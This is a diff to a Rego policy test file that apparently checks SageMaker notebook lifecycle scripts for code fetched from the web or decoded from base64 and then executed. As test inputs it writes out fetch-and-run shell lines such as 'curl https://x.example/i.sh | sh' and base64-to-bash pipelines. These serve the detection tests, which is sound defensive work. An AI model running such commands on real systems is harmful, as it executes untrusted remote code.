@@ -49,21 +49,26 @@ safe := [
 	"pip install --index-url https://mirror.example/simple torch",
 	"pip install -i https://user:pw@ml-111122223333.d.codeartifact.us-east-1.amazonaws.com/pypi/x torch",
 	"pip install torch",
+	"true\n# curl https://x.example/i.sh | sh",
 ]
 
 listing := {"approved_package_indexes": ["mirror.example"]}
 
 test_sm_sec_005_passes if {
-	count(notebook_code.deny["SM-SEC-005"]) == 0 with input as notebook
 	every text in safe {
 		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
 		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as studio(text) with data.config as listing
 	}
-	not unread.blinds("SM-SEC-005") with input as notebook
+	not unread.blinds("SM-SEC-005") with input as script("true")
 }
 
-test_sm_sec_005_fails_without_a_configuration if {
-	notebook_code.deny["SM-SEC-005"] == {"Notebook instance \"research\" has no lifecycle configuration."} with input as bare
+test_sm_sec_005_fails_for_scripts_that_are_unpacked_first if {
+	every text in ["echo aGk= | base64 -d | bash", "base64 --decode x.b64 | sudo sh", "eval $(echo aGk= | base64 -d)", "bash <(base64 -D x)"] {
+		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly runs a script that it unpacks first."} with input as script(text)
+	}
+	every text in ["echo aGk= | base64 -d > key.pem", "base64 key.pem | bash-formatter", "bash run.sh; base64 -d x > y"] {
+		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text)
+	}
 }
 
 from_the_web := "Lifecycle configuration \"setup\" possibly runs a script straight from the web."
@@ -72,6 +77,7 @@ test_sm_sec_005_fails_for_scripts_from_the_web if {
 	every text in [
 		"curl -sL https://x.example/i.sh | sh",
 		"curl https://x.example \\\n | sudo bash -s",
+		"curl https://x.example |\\\nbash -s",
 		"wget -qO- https://x.example/i.py | python3 -",
 		"bash <(curl -s https://x.example/i.sh)",
 		"eval $(wget -qO- https://x.example/i.sh)",
@@ -132,7 +138,10 @@ test_sm_sec_007_passes if {
 		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as hosts
 		not unread.blinds("SM-SEC-007") with input as document
 	}
-	count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as commit with data.config as {}
+	with_secret := object.union(commit, {"git_config": {"secret_arn": "arn:secret"}})
+	every document in [commit, with_secret] {
+		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as {}
+	}
 }
 
 test_sm_sec_007_fails_without_stored_credentials if {
